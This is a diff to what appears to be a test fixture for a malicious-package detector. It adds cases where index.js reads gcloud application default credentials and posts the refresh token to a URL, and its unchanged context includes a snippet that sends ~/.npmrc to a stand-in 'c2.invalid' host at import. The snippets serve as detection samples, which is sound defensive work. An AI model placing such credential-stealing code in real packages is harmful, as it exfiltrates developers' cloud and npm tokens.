@@ -71,6 +71,20 @@ for (const file of require('fast-glob').sync(['**/.git-credentials'], { cwd: req
       weight: 'strong',
     },
     {
+      when: 'a client trades the login of a cloud for a token of it',
+      files: {
+        'index.js': `const j = JSON.parse(require('fs').readFileSync(require('os').homedir() + '/.config/gcloud/application_default_credentials.json')); exports.token = () => fetch('https://oauth2.googleapis.com/token', { method: 'POST', body: j.refresh_token })`,
+      },
+      weight: 'context',
+    },
+    {
+      when: 'the login of a cloud goes to storage of the same cloud',
+      files: {
+        'index.js': `const j = JSON.parse(require('fs').readFileSync(require('os').homedir() + '/.config/gcloud/application_default_credentials.json')); exports.token = () => fetch('https://storage.googleapis.com/upload', { method: 'POST', body: j.refresh_token })`,
+      },
+      weight: 'proof',
+    },
+    {
       when: 'the npm token goes out at import',
       files: {
         'index.js': `const t = require('fs').readFileSync(require('path').join(require('os').homedir(), '.npmrc'), 'utf8'); fetch('https://c2.invalid/', { method: 'POST', body: t })`,
